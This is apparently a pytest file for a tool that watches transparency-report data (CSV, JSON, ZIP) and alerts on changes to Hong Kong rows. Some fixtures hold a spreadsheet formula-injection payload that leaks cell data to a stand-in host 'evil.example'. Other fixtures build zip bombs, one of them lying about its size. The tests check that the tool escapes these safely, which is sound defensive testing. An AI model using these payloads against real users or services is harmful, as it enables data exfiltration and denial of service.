"""Transparency data as data: CSV, TSV, JSON and ZIP archives read into keyed rows.

Each test goes through `pipeline.read` (the one reader checks and `monitor preview`
use) and `pipeline.detect`, from a `Snapshot` as fetch makes it.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import subprocess
import sys
import tracemalloc
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest

from monitor.cli import main
from monitor.config import loads
from monitor.errors import ConfigError, DocumentTooLarge, ExtractError, FailureKind
from monitor.messages import Proof, Subject, change_message
from monitor.model import Block, Document, ExtractRules, Finding, Format, Snapshot
from monitor.pipeline import Matchers, detect, read
from monitor.tabular import tabulate
from tests.conftest import LocalSite, Page, Receiver

HEADER = "Country,Period,Requests,Accounts,Percentage answered"
ROWS = [
    "China,H2 2020,0,0,0 %",
    'Germany,H2 2020,"1,019","1,204",73 %',
    "Hong Kong,H1 2020,105,130,49 %",
    "Hong Kong,H2 2020,241,301,46 %",
    "Macau,H2 2020,2,2,50 %",
    'United States,H2 2020,"39,758","83,924",83 %',
]
KEY = ExtractRules(key=("Country", "Period"))
MATCHER = Matchers().for_ids(["HK", "MO", "CN"])


def report(rows: list[str] = ROWS, header: str = HEADER) -> bytes:
    return ("\n".join([header, *rows]) + "\n").encode()


def hk_dropped(rows: list[str] = ROWS) -> list[str]:
    return [r.replace("Hong Kong,H2 2020,241,301,46 %", "Hong Kong,H2 2020,0,0,0 %") for r in rows]


def snapshot(body: bytes, content_type: str = "text/csv", url: str = "https://e.org/r") -> Snapshot:
    when = datetime(2026, 1, 1, tzinfo=UTC)
    headers = (("content-type", content_type),)
    return Snapshot(url, url, 200, headers, body, "utf-8", when, 0.1)


def zipped(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def findings(before: Document, after: Document) -> tuple[Finding, ...]:
    return detect(before, after, MATCHER, None).findings


def cells(finding: Finding) -> list[tuple[str, str, str, float | None]]:
    return [(c.column, c.before, c.after, c.delta) for c in finding.cells]


HK_DROP = [
    ("Requests", "241", "0", -241.0),
    ("Accounts", "301", "0", -301.0),
    ("Percentage answered", "46 %", "0 %", -46.0),
]


# --- CSV -----------------------------------------------------------------------------


def test_the_hong_kong_row_dropping_to_zero_is_one_finding_naming_row_and_cells() -> None:
    before = read(snapshot(report()), KEY)
    after = read(snapshot(report(hk_dropped())), KEY)

    (finding,) = findings(before, after)
    assert (finding.jurisdiction, finding.kind, finding.where) == ("HK", "table_row", "row")
    assert finding.change is not None and finding.change.kind == "modified"
    assert finding.change.path == ("Hong Kong", "H2 2020")
    assert finding.change.before == "Hong Kong | H2 2020 | 241 | 301 | 46 %"
    assert cells(finding) == HK_DROP


def test_a_row_knows_its_columns_and_key_and_survives_the_store() -> None:
    document = read(snapshot(report()), KEY)
    row = next(b for b in document if b.key == ("Germany", "H2 2020"))
    assert row.cells == ("Germany", "H2 2020", "1,019", "1,204", "73 %")  # exact text
    assert row.columns == tuple(HEADER.split(","))
    assert Block.from_json(json.loads(json.dumps(row.to_json()))) == row
    prose = Block("paragraph", "Hong Kong", ("Requests",))
    assert set(prose.to_json()) == {"kind", "text", "path"}  # old documents hash the same


def test_reordered_rows_are_the_same_version() -> None:
    assert read(snapshot(report(ROWS[::-1])), KEY) == read(snapshot(report()), KEY)


def test_another_countrys_change_is_silent() -> None:
    changed = [r.replace("39,758", "41,000") for r in ROWS]
    before, after = read(snapshot(report()), KEY), read(snapshot(report(changed)), KEY)
    assert before != after
    assert findings(before, after) == ()


def test_the_key_is_inferred_from_the_leading_text_columns() -> None:
    document = read(snapshot(report()), ExtractRules())
    assert {b.key for b in document} >= {("Hong Kong", "H1 2020"), ("Hong Kong", "H2 2020")}
    (finding,) = findings(document, read(snapshot(report(hk_dropped())), ExtractRules()))
    assert cells(finding) == HK_DROP


def test_a_new_period_for_hong_kong_is_an_added_row_not_a_changed_one() -> None:
    rows = [*hk_dropped(), "Hong Kong,H1 2021,7,7,0 %"]
    got = findings(read(snapshot(report()), KEY), read(snapshot(report(rows)), KEY))
    kinds = sorted((f.change.kind, f.change.path) for f in got if f.change)
    assert kinds == [("added", ("Hong Kong", "H1 2021")), ("modified", ("Hong Kong", "H2 2020"))]


def test_rows_keeps_only_the_named_rows_by_name_or_jurisdiction_id() -> None:
    rules = ExtractRules(key=("Country", "Period"), rows=(("country", ("HK", "macau")),))
    document = read(snapshot(report()), rules)
    assert [b.key[0] for b in document] == ["Hong Kong", "Hong Kong", "Macau"]


def test_a_missing_key_column_is_an_extraction_failure_naming_the_header() -> None:
    with pytest.raises(ExtractError, match=r"key column 'Year' is not in the header \['Country'"):
        read(snapshot(report()), ExtractRules(key=("Year",)))


def test_no_row_left_after_the_filter_is_an_extraction_failure() -> None:
    with pytest.raises(ExtractError, match="no rows found"):
        read(snapshot(report()), ExtractRules(rows=(("Country", ("Narnia",)),)))


def test_tsv_and_sniffed_delimiters() -> None:
    tsv = report().replace(b'"1,019","1,204"', b"1019,1204").replace(b",", b"\t")
    semicolons = b"\n\n" + report().replace(b",", b";").replace(b'"1;019";"1;204"', b"1019;1204")
    for body, content_type in ((tsv, "text/tab-separated-values"), (semicolons, "text/csv")):
        document = read(snapshot(body, content_type), KEY)
        assert ("Hong Kong", "H2 2020", "241", "301", "46 %") in [b.cells for b in document]


@pytest.mark.parametrize(
    ("encoded", "encoding"),
    [
        (codecs.BOM_UTF8 + "Country,Requests\nCuraçao,3\n".encode(), "utf-8"),
        ("Country,Requests\nCuraçao,3\n".encode("utf-16"), "utf-16"),
        ("Country,Requests\nCuraçao,3\n".encode("cp1252"), "cp1252"),
    ],
    ids=["utf-8-bom", "utf-16", "cp1252"],
)
def test_encodings_in_a_response_and_in_a_zip_member(encoded: bytes, encoding: str) -> None:
    direct = replace(snapshot(encoded), encoding=encoding)
    member = snapshot(zipped({"r.csv": encoded}), "application/zip")
    for source in (direct, member):
        (row,) = read(source, ExtractRules())
        assert row.columns == ("Country", "Requests") and row.cells == ("Curaçao", "3")


def test_inconsistent_rows_are_read_without_crashing() -> None:
    body = (
        b"Country,Period,Requests\n\n"
        b"Hong Kong,H2 2020\n"  # short: padded
        b"Macau,H2 2020,2,extra\n"  # long: the extra cell is kept as #4
        b",,\n"  # blank: skipped
        b"China,H2 2020,0\n"
    )
    document = read(snapshot(body), ExtractRules())
    assert [b.cells for b in document] == [
        ("China", "H2 2020", "0"),
        ("Hong Kong", "H2 2020", ""),
        ("Macau", "H2 2020", "2", "extra"),
    ]
    assert document[2].columns == ("Country", "Period", "Requests", "#4")


def test_an_unclosed_quote_is_an_extraction_failure_or_rows_never_a_crash() -> None:
    body = b'Country,Requests\nHong Kong,"241\n' + b"x" * 200_000
    with pytest.raises(ExtractError, match="unreadable CSV"):
        read(snapshot(body), ExtractRules())


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Hong Kong")', "+1+2", "-2+3", "@SUM(A1:A9)"]


def test_formula_cells_are_kept_verbatim_as_text() -> None:
    rows = [f'Hong Kong,H2 2020,"{f.replace(chr(34), chr(34) * 2)}",1,1 %' for f in FORMULAS]
    rows = [r.replace("H2 2020", f"P{i}") for i, r in enumerate(rows)]
    document = read(snapshot(report(rows)), KEY)
    assert [b.cells[2] for b in document] == FORMULAS


def test_a_formula_cell_reaches_the_alert_as_plain_escaped_text() -> None:
    formula = '=HYPERLINK("http://evil.example/<b>","@channel")'
    cell = '"' + formula.replace('"', '""') + '"'
    before = read(snapshot(report()), KEY)
    after = read(snapshot(report([r.replace("46 %", cell) for r in ROWS])), KEY)
    subject = Subject("Example", "Requests", "https://e.org/r", "w")
    alert = change_message(
        subject, findings(before, after), Proof(datetime(2026, 1, 1, tzinfo=UTC)),
        jurisdiction_names={"HK": "Hong Kong"},
    )  # fmt: skip
    assert f"Percentage answered: 46 % → {formula}" in alert.text
    assert "<b>" not in alert.html and "&lt;b&gt;" in alert.html


def test_control_characters_never_reach_a_cell() -> None:
    (row,) = read(snapshot(b"Country,Requests\nHong\x1b[31m Kong,\x07241\n"), ExtractRules())
    assert row.cells == ("Hong[31m Kong", "241")


# --- JSON ----------------------------------------------------------------------------


def api(rows: list[str]) -> bytes:
    names = ["country", "period", "requests", "accounts", "answered"]
    items = []
    for row in rows:
        values = next(csv.reader([row]))
        item: dict[str, object] = dict(zip(names, values, strict=True))
        item["requests"] = int(str(item["requests"]).replace(",", ""))
        item["answered"] = float(str(item["answered"]).rstrip(" %")) / 100
        items.append(item)
    return json.dumps({"meta": {"source": "example"}, "data": {"rows": items}}).encode()


JSON_RULES = ExtractRules(query="data.rows", key=("country", "period"))


def test_a_json_api_of_the_same_data_gives_the_same_finding() -> None:
    before = read(snapshot(api(ROWS), "application/json"), JSON_RULES)
    after = read(snapshot(api(hk_dropped()), "application/json"), JSON_RULES)
    (finding,) = findings(before, after)
    assert finding.change is not None and finding.change.path == ("Hong Kong", "H2 2020")
    assert cells(finding) == [
        ("requests", "241", "0", -241.0),
        ("accounts", "301", "0", -301.0),
        ("answered", "0.46", "0.0", -0.46),
    ]


def test_a_json_query_can_filter_and_a_bad_one_fails_the_read() -> None:
    rules = ExtractRules(query="data.rows[?country=='Macau']")
    (row,) = read(snapshot(api(ROWS), "application/json"), rules)
    assert row.cells[:2] == ("Macau", "H2 2020")
    with pytest.raises(ExtractError, match="matched nothing"):
        read(snapshot(api(ROWS), "application/json"), ExtractRules(query="nothing.here"))


def test_other_json_is_named_values_under_their_key_paths() -> None:
    body = json.dumps(
        {"countries": {"HK": {"requests": 241, "note": "Paused since July 2020."}}, "tags": [1]}
    ).encode()
    document = read(snapshot(body, "application/json"), ExtractRules())

    def named(name: str, value: str) -> Block:
        path, cells = ("countries", "HK"), (name, value)
        return Block(
            "row", f"{name} | {value}", path, cells=cells, columns=("name", name), key=(*path, name)
        )

    assert document == (
        named("requests", "241"),
        named("note", "Paused since July 2020."),
        Block("item", "1", ("tags",)),
    )
    after = read(snapshot(body.replace(b"241", b"0"), "application/json"), ExtractRules())
    (finding,) = findings(document, after)
    assert finding.jurisdiction == "HK" and cells(finding) == [("requests", "241", "0", -241.0)]


def test_unreadable_json_is_an_extraction_failure() -> None:
    with pytest.raises(ExtractError, match="unreadable JSON"):
        read(snapshot(b'{"rows": [1, 2', "application/json"), ExtractRules())


# --- ZIP -----------------------------------------------------------------------------

ZIP_RULES = ExtractRules(member="*requests.csv", key=("Country", "Period"))


def archive(rows: list[str]) -> bytes:
    return zipped(
        {
            "google-user-data-requests/README.txt": b"About this data",
            "google-user-data-requests/google-user-data-requests.csv": report(rows),
        }
    )


def test_the_same_change_inside_a_zip() -> None:
    before = read(snapshot(archive(ROWS), "application/zip"), ZIP_RULES)
    after = read(snapshot(archive(hk_dropped()), "application/zip"), ZIP_RULES)
    (finding,) = findings(before, after)
    assert finding.change is not None
    assert finding.change.path == ("google-user-data-requests.csv", "Hong Kong", "H2 2020")
    assert cells(finding) == HK_DROP


def test_a_zip_is_read_by_its_magic_bytes_whatever_it_is_served_as() -> None:
    document = read(snapshot(archive(ROWS), "text/html"), ZIP_RULES)
    assert len(document) == len(ROWS)


def test_a_missing_member_is_a_failure_listing_the_members() -> None:
    rules = ExtractRules(member="*.json")
    with pytest.raises(ExtractError, match=r"no member matches '\*\.json'; the archive holds: "):
        read(snapshot(archive(ROWS), "application/zip"), rules)


@pytest.mark.parametrize("cut", [0.5, 0.95], ids=["half", "the-directory-cut"])
def test_a_truncated_zip_is_an_extraction_failure(cut: float) -> None:
    body = archive(ROWS)
    with pytest.raises(ExtractError, match="unreadable ZIP archive"):
        read(snapshot(body[: int(len(body) * cut)], "application/zip"), ZIP_RULES)


def test_a_zip_bomb_is_too_large_without_inflating_it() -> None:
    bomb = zipped({"bomb.csv": b"0" * 50_000_000})
    assert len(bomb) < 100_000
    with pytest.raises(DocumentTooLarge, match="inflates to 50000000 bytes") as caught:
        read(snapshot(bomb, "application/zip"), ExtractRules(), max_bytes=10_000_000)
    assert caught.value.kind is FailureKind.TOO_LARGE


def test_members_together_are_held_to_the_cap() -> None:
    members = {f"part{i}.csv": b"Country,Requests\n" + b"Hong Kong,1\n" * 100_000 for i in range(3)}
    with pytest.raises(DocumentTooLarge, match=r"'part2\.csv' inflates to 1200017 bytes"):
        read(snapshot(zipped(members), "application/zip"), ExtractRules(), max_bytes=2_500_000)


def test_a_zip_that_lies_about_its_size_is_read_no_further_than_it_says() -> None:
    bomb = bytearray(zipped({"bomb.csv": b"Country,Requests\n" + b"0" * 50_000_000}))
    entry = bomb.index(b"PK\x01\x02")  # the central directory's record of the member
    bomb[entry + 24 : entry + 28] = (1000).to_bytes(4, "little")  # "it inflates to 1000 bytes"
    with pytest.raises(ExtractError, match=r"unreadable ZIP member 'bomb\.csv'.*CRC"):
        read(snapshot(bytes(bomb), "application/zip"), ExtractRules(), max_bytes=10_000)


def _lazy_csv(rows: int) -> Iterator[bytes]:
    yield b"Country,Period,Requests,Accounts,Percentage answered\n"
    chunk = b"".join(b"Narnia,H%d 2020,1,1,1 %%\n" % (i % 2) for i in range(10_000))
    for _ in range(rows // 10_000):
        yield chunk
    yield b"Hong Kong,H2 2020,241,301,46 %\n"


def lazy_zip(rows: int) -> bytes:
    """A ZIP holding a CSV of `rows` rows, written in pieces: never whole in memory."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("big.csv", "w", force_zip64=True) as member,
    ):
        for piece in _lazy_csv(rows):
            member.write(piece)
    return buffer.getvalue()


def _peak_reading(body: bytes, max_bytes: int) -> tuple[Document, int, int]:
    rules = ExtractRules(key=("Country", "Period"), rows=(("Country", ("HK",)),))
    tracemalloc.start()
    try:
        document = tabulate(body, Format.ZIP, rules, encoding=None, max_bytes=max_bytes)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    size = zipfile.ZipFile(io.BytesIO(body)).infolist()[0].file_size
    return document, peak, size


def test_a_big_csv_in_a_zip_streams_within_a_memory_bound() -> None:
    document, peak, size = _peak_reading(lazy_zip(1_000_000), max_bytes=100_000_000)
    assert size > 20_000_000
    assert [b.key for b in document] == [("Hong Kong", "H2 2020")]
    assert peak < 4_000_000, f"peak {peak} bytes while reading {size}"


_PEAK_RSS = """
import json, resource, sys
from monitor.model import ExtractRules, Format
from monitor.tabular import tabulate
from tests.test_tabular import lazy_zip
body = lazy_zip(int(sys.argv[1]))
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
rules = ExtractRules(key=("Country", "Period"), rows=(("Country", ("HK",)),))
document = tabulate(body, Format.ZIP, rules, encoding=None, max_bytes=2_000_000_000)
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(len(body), before, after, json.dumps([b.key for b in document]))
"""


@pytest.mark.slow
def test_a_1_gb_csv_in_a_zip_streams_within_a_memory_bound() -> None:
    """In a fresh process, reading the 1 GB member raises the peak RSS by little."""
    root = Path(__file__).resolve().parent.parent
    run = subprocess.run(
        [sys.executable, "-c", _PEAK_RSS, "45000000"],
        capture_output=True, text=True, cwd=root, check=True, timeout=1800,
    )  # fmt: skip
    print(run.stdout)  # the figures, shown by `pytest -rA`
    size, before_kib, after_kib, keys = run.stdout.split(" ", 3)
    assert json.loads(keys) == [["Hong Kong", "H2 2020"]]
    assert int(size) < 10_000_000  # the archive; the member inflates to over 1 GB
    assert int(after_kib) - int(before_kib) < 50_000, run.stdout


# --- the watchlist -------------------------------------------------------------------


def test_data_keys_reach_the_rules_and_only_they_change_the_digest() -> None:
    plain = ExtractRules(select=("main",))
    assert plain.digest() == "b2dbf3451f9067f1"  # what every existing store holds
    expecting = ExtractRules(select=("main",), expect_text=("Hong Kong",))
    assert expecting.digest() == "d5b0448aa3e4716b"
    watchlist = loads(
        "watches:\n"
        "  - id: google-udr\n"
        "    url: https://e.org/d.zip\n"
        "    format: zip\n"
        "    member: '*.csv'\n"
        "    key: [Country, Period]\n"
        "    rows: {Country: [HK, Macau, 2020]}\n",
        "w.yaml",
    )
    rules = watchlist.watches[0].rules
    assert rules.format is Format.ZIP and rules.member == "*.csv"
    assert rules.key == ("Country", "Period")
    assert rules.rows == (("Country", ("HK", "Macau", "2020")),)
    assert rules.digest() != ExtractRules().digest()


@pytest.mark.parametrize(
    ("keys", "message"),
    [
        ("format: xlsx", "format: Input should be 'auto', 'html'"),
        ("format: csv, member: '*.csv'", "member names a file inside a ZIP; this watch's format"),
        ("format: html, key: [Country]", "key applies to rows of data (CSV, TSV, JSON)"),
        ("query: 'rows[?'", "invalid JMESPath query"),
        ("format: csv, query: rows", "query selects from JSON; this watch's format is csv"),
        ("rows: {Country: []}", "each column needs at least one value to keep"),
        ("key: ['']", "must not be empty"),
    ],
)  # fmt: skip
def test_data_keys_are_validated_with_clear_messages(keys: str, message: str) -> None:
    text = "watches:\n  - {id: w, url: 'https://e.org/d', " + keys + "}\n"
    with pytest.raises(ConfigError) as caught:
        loads(text, "w.yaml")
    assert message in str(caught.value)


# --- end to end ----------------------------------------------------------------------


def test_monitor_check_alerts_once_on_the_hong_kong_row_of_a_zip(
    tmp_path: Path, site: LocalSite, receiver: Receiver
) -> None:
    watchlist = tmp_path / "w.yaml"
    watchlist.write_text(
        "defaults: {routes: [desk]}\n"
        f"routes: {{desk: ['json://127.0.0.1:{receiver.port}/desk']}}\n"
        "watches:\n"
        f"  - id: google-udr\n    platform: Google\n    name: User data requests\n"
        f"    url: '{site.url('/data.zip')}'\n"
        "    member: '*requests.csv'\n    key: [Country, Period]\n"
    )
    zip_type = {"Content-Type": "application/zip"}

    def check() -> int:
        return main(["check", "--watchlist", str(watchlist), "--db", str(tmp_path / "m.db")])

    site["/data.zip"] = Page(archive(ROWS), headers=zip_type)
    assert check() == 0
    site["/data.zip"] = Page(
        archive([r.replace("39,758", "40,000") for r in ROWS]), headers=zip_type
    )
    assert check() == 0  # another country's change: silent
    changed = hk_dropped([r.replace("39,758", "40,000") for r in ROWS])
    site["/data.zip"] = Page(archive(changed[::-1]), headers=zip_type)  # and reordered
    assert check() == 0
    assert check() == 0  # unchanged

    assert len(receiver.posts) == 1
    message = receiver.posts[0].json()["message"]
    assert "Hong Kong" in message and "H2 2020" in message
    for column, before, after, _ in HK_DROP:
        assert f"{column}: {before} → {after}" in message
    assert "Germany" not in message and "United States" not in message
